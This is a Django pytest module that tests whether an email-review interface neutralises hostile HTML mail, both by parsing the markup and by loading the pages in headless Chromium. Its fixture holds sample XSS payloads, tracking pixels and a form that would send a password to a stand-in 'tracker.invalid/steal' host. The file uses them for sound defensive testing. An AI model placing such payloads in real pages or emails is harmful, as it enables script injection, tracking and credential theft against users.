"""An HTML email with scripts, event handlers and remote images renders inert in the reviewer UI.

The mail arrives through the signed Mailgun webhook (HTML only, as phishing and tracking mail
often is). Every page a reviewer can open it on is then parsed: no script, handler, remote
resource or javascript: link from the mail may survive as markup. A real Chromium then opens the
same pages and proves it: no dialog, no script side effect, and not one request leaves the site.
"""

from __future__ import annotations

import hashlib
import hmac
import secrets
import time
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlparse

import pytest
from conftest import PASSWORD
from django.contrib.auth.models import User
from django.test import Client

from intake.models import Message, Practice

TRACKER = "tracker.invalid"
HOSTILE_HTML = f"""<html><head>
<meta http-equiv="refresh" content="0;url=https://{TRACKER}/refresh">
<style>body {{ background: url(https://{TRACKER}/css.png) }}</style>
<link rel="stylesheet" href="https://{TRACKER}/style.css">
<script>window.__pwned = 'script'; alert('script')</script>
<script src="https://{TRACKER}/evil.js"></script>
</head><body onload="window.__pwned='onload'">
<p>Hi, I need to reschedule my appointment on Friday.</p>
<img src="https://{TRACKER}/pixel.gif?patient=1" width="1" height="1">
<img src=x onerror="window.__pwned='onerror'">
<svg onload="window.__pwned='svg'"><circle r="1"/></svg>
<iframe src="https://{TRACKER}/frame"></iframe>
<object data="https://{TRACKER}/obj.swf"></object>
<a href="javascript:window.__pwned='link'">click here</a>
<form action="https://{TRACKER}/steal"><input name="pw"></form>
</body></html>"""
MAIL_SCRIPT_MARKERS = ("__pwned", "evil.js")


def deliver_hostile_mail(client: Client, practice: Practice) -> Message:
    timestamp, token = str(int(time.time())), secrets.token_hex(25)
    signature = hmac.new(
        practice.mailgun_signing_key.encode(), (timestamp + token).encode(), hashlib.sha256
    ).hexdigest()
    response = client.post(
        f"/hooks/mailgun/{practice.slug}/",
        {
            "sender": "patient@example.org",
            "from": "Patient <patient@example.org>",
            "subject": "<script>alert('subject')</script> appointment",
            "body-html": HOSTILE_HTML,
            "Message-Id": f"<{secrets.token_hex(8)}@example.org>",
            "timestamp": timestamp,
            "token": token,
            "signature": signature,
        },
    )
    assert response.status_code in {200, 202}, response.content
    return Message.objects.get(practice=practice)


class Markup(HTMLParser):
    """Collects what would be live in a browser: elements, their attributes, script bodies."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.scripts: list[str] = []
        self.styles: list[str] = []
        self._open = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {k: v or "" for k, v in attrs}
        self.elements.append((tag, values))
        self.styles.append(values.get("style", ""))
        self._open = tag if tag in {"script", "style"} else ""

    def handle_endtag(self, tag: str) -> None:
        self._open = ""

    def handle_data(self, data: str) -> None:
        if self._open == "script":
            self.scripts.append(data)
        elif self._open == "style":
            self.styles.append(data)


def assert_inert(html: str, where: str) -> None:
    markup = Markup()
    markup.feed(html)
    for tag, attrs in markup.elements:
        handlers = [name for name in attrs if name.startswith("on")]
        assert not handlers, f"{where}: <{tag}> carries {handlers}"
        for name in ("src", "href", "data", "action", "content"):
            value = attrs.get(name, "")
            assert TRACKER not in value, f"{where}: <{tag} {name}={value!r}> points off-site"
            assert not value.lower().startswith("javascript:"), (
                f"{where}: <{tag} {name}=javascript:>"
            )
        if tag in {"iframe", "object", "embed", "meta"} and "http-equiv" in attrs:
            pytest.fail(f"{where}: <{tag} http-equiv> from the mail is live")
        if tag in {"iframe", "object", "embed"}:
            pytest.fail(f"{where}: <{tag}> is live")
    for body in markup.scripts:
        assert not any(m in body for m in MAIL_SCRIPT_MARKERS), (
            f"{where}: the mail's script is live"
        )
    for css in markup.styles:
        assert TRACKER not in css, f"{where}: the mail's CSS is live"


def reviewer_pages(practice: Practice, message: Message) -> list[str]:
    base = f"/practices/{practice.slug}/"
    return [
        base + "queue/",
        base + "review/",
        base + f"messages/{message.pk}/",
        base + f"messages/{message.pk}/raw/",
    ]


@pytest.mark.django_db
def test_hostile_html_email_is_stored_as_text_and_every_reviewer_page_is_inert(
    practice: Practice, reviewer: User, django_capture_on_commit_callbacks: Any
):
    with django_capture_on_commit_callbacks(execute=True):
        message = deliver_hostile_mail(Client(), practice)
    message.refresh_from_db()
    assert "reschedule my appointment" in message.text
    assert "<script" not in message.text and TRACKER not in message.text
    assert message.status == "classified"

    browser = Client()
    browser.force_login(reviewer)
    for page in reviewer_pages(practice, message):
        response = browser.get(page, follow=True)
        assert response.status_code == 200, page
        csp = response.headers["Content-Security-Policy"]
        assert "img-src 'self' data:" in csp and "script-src 'self'" in csp
        assert_inert(response.content.decode(), page)
    # The raw payload is shown (escaped) so a reviewer can still see what was sent.
    raw = browser.get(f"/practices/{practice.slug}/messages/{message.pk}/raw/").content.decode()
    assert "&lt;script&gt;" in raw or "&lt;script" in raw


CHROMIUM = "/usr/bin/chromium"


@pytest.fixture
def chromium_page(monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    if not Path(CHROMIUM).exists():
        pytest.skip(f"no Chromium at {CHROMIUM} (install Debian's chromium, `make chromium`)")
    sync_api = pytest.importorskip("playwright.sync_api")
    # Playwright's event loop runs in this thread while the test uses the ORM; only for this test
    # (a leaked variable would fail `check --deploy` in subprocesses started later).
    monkeypatch.setenv("DJANGO_ALLOW_ASYNC_UNSAFE", "true")
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=CHROMIUM,
            args=["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"],
        )
        page = browser.new_context().new_page()
        page.set_default_timeout(20_000)
        yield page
        browser.close()


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_hostile_html_email_does_nothing_in_a_real_browser(
    live_server: Any, chromium_page: Any, practice: Practice, reviewer: User
):
    message = deliver_hostile_mail(Client(), practice)
    page = chromium_page
    site = urlparse(live_server.url).netloc
    off_site: list[str] = []
    dialogs: list[str] = []
    page.on(
        "request",
        lambda request: (
            off_site.append(request.url)
            if urlparse(request.url).netloc not in {site, ""}
            and not request.url.startswith("data:")
            else None
        ),
    )
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

    page.goto(f"{live_server.url}/accounts/login/")
    page.fill("input[name=username]", reviewer.username)
    page.fill("input[name=password]", PASSWORD)
    page.click("button[type=submit], input[type=submit]")
    page.wait_for_url(f"**/practices/{practice.slug}/**")
    for path in reviewer_pages(practice, message):
        page.goto(f"{live_server.url}{path}")
        page.wait_for_load_state("networkidle")
        assert page.evaluate("() => window.__pwned === undefined"), path
        assert page.locator("iframe, object, embed").count() == 0, path

    assert not dialogs, dialogs
    assert not off_site, off_site
    # Control: the same watch does see an off-site image when a page really loads one.
    page.set_content(f'<img src="https://{TRACKER}/control.gif">')
    page.wait_for_timeout(500)
    assert any("control.gif" in url for url in off_site)
